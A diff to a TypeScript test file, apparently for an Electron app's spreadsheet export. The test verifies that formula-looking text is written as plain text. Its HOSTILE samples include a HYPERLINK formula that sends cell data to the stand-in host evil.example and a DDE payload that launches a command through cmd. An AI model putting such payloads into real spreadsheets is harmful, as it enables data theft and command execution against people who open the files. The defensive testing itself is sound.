@@ -12,7 +12,7 @@ import { applyAssignment } from '../../electron/sync/assignment-import.js';
 import { readOfficerKey } from '../../electron/sync/keys.js';
 import { formulaSafeText } from '../../electron/sync/sheet-text.js';
 import { exportWeeklyPacket } from '../../electron/sync/weekly-export.js';
-import { WEEKLY_LEDGER_PATH } from '../../shared/packets/weekly.js';
+import { WEEKLY_LEDGER_PATH } from '@shared/packets/weekly.js';
 import { makeTempDir, openTempStore, type TempDir, type TempStore } from '../helpers/temp-store.js';
 import { readSheetXml, zipEntries, type XmlCell } from '../helpers/xlsx-xml.js';
 
@@ -30,7 +30,7 @@ const now = () => new Date('2026-11-20T10:00:00');
 /** One text per character that starts a formula; the services trim a leading TAB or CR, so those two are planted in the tables. */
 const HOSTILE = {
   eq: '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
-  plus: '+1+cmd|\' /C calc\'!A0',
+  plus: "+1+cmd|' /C calc'!A0",
   minus: '-2+3',
   at: '@SUM(1,2)',
   tab: '\t=1+1',
@@ -65,7 +65,10 @@ function expectSafe(sheets: Map<string, { xml: string; cells: XmlCell[] }>, text
   const cells = [...sheets.values()].flatMap((s) => s.cells);
   for (const [name, sheet] of sheets) {
     expect(sheet.xml, name).not.toMatch(/<f[\s>/]/);
-    expect(sheet.cells.filter((c) => c.formula), name).toEqual([]);
+    expect(
+      sheet.cells.filter((c) => c.formula),
+      name,
+    ).toEqual([]);
   }
   for (const text of texts) {
     const shown = cells.filter((c) => c.text === `'${text}`);
@@ -73,7 +76,10 @@ function expectSafe(sheets: Map<string, { xml: string; cells: XmlCell[] }>, text
     // A typed string cell, never a formula's result (`str`): shared (`s`, the master-list samples) or inline
     // (`inlineStr`, the ledgers' streaming writer).
     for (const c of shown) expect(['s', 'inlineStr'], `${c.ref} ${JSON.stringify(text)}`).toContain(c.type);
-    expect(cells.filter((c) => c.text === text), JSON.stringify(text)).toEqual([]);
+    expect(
+      cells.filter((c) => c.text === text),
+      JSON.stringify(text),
+    ).toEqual([]);
   }
   // No text cell anywhere begins with a formula character.
   expect(cells.filter((c) => c.text !== null && /^[=+\-@\t\r]/.test(c.text)).map((c) => c.ref)).toEqual([]);
@@ -96,10 +102,24 @@ beforeAll(async () => {
   const projects = await call<{ id: string }[]>('projects.list', { includeArchived: false });
   const project = projects[0]!;
   const detail = await call<{ checklist: { id: string; closedOff: boolean; withdrawnAt: string | null }[] }>('projects.get', { projectId: project.id });
-  await call('visits.log', { projectId: project.id, visitedOn: '2026-11-18', kind: 'site_visit', summary: HOSTILE.eq, findings: HOSTILE.plus, followUps: HOSTILE.minus, participants: HOSTILE.at });
+  await call('visits.log', {
+    projectId: project.id,
+    visitedOn: '2026-11-18',
+    kind: 'site_visit',
+    summary: HOSTILE.eq,
+    findings: HOSTILE.plus,
+    followUps: HOSTILE.minus,
+    participants: HOSTILE.at,
+  });
   const item = detail.checklist.find((c) => !c.closedOff && c.withdrawnAt === null)!;
   await call('checklist.closeOff', { itemId: item.id, effectiveOn: '2026-11-19', note: '材料已归档' });
-  await call('problems.raise', { projectId: project.id, category: 'approval', description: '施工许可办理排队', responsibleDepartment: '区行政审批服务局', dueOn: '2026-12-31' });
+  await call('problems.raise', {
+    projectId: project.id,
+    category: 'approval',
+    description: '施工许可办理排队',
+    responsibleDepartment: '区行政审批服务局',
+    dueOn: '2026-12-31',
+  });
   await call('investment.record', { projectId: project.id, month: '2026-10', amount: 815.5 });
   // A leading TAB or CR never passes the schemas' trimming; planted in the store (project fields, which assignments rewrite) as another writer could leave them.
   store.db.prepare('UPDATE projects SET industry = ?, location = ? WHERE id = ?').run(HOSTILE.tab, HOSTILE.cr, project.id);
@@ -147,11 +167,22 @@ describe('formula-looking text in the workbooks we write', () => {
     const csvDir = dir.file('lo');
     mkdirSync(csvDir);
     // Every sheet as CSV (the filter's 12th option, -1), text as LibreOffice shows it.
-    execFileSync(office!, ['--headless', `-env:UserInstallation=file://${dir.file('lo-profile')}`, '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1', '--outdir', csvDir, out], {
-      stdio: 'ignore',
-      timeout: 120_000,
-    });
-    const shown = readdirSync(csvDir).map((f) => readFileSync(join(csvDir, f), 'utf8')).join('\n');
+    execFileSync(
+      office!,
+      [
+        '--headless',
+        `-env:UserInstallation=file://${dir.file('lo-profile')}`,
+        '--convert-to',
+        'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1',
+        '--outdir',
+        csvDir,
+        out,
+      ],
+      { stdio: 'ignore', timeout: 120_000 },
+    );
+    const shown = readdirSync(csvDir)
+      .map((f) => readFileSync(join(csvDir, f), 'utf8'))
+      .join('\n');
     // Shown as the text itself (computed, the link would show its label, the sums their results).
     for (const core of CORES) expect(shown, JSON.stringify(core)).toContain(`'${core}`);
     expect(count(shown, "'=HYPERLINK(")).toBe(count(shown, '=HYPERLINK('));
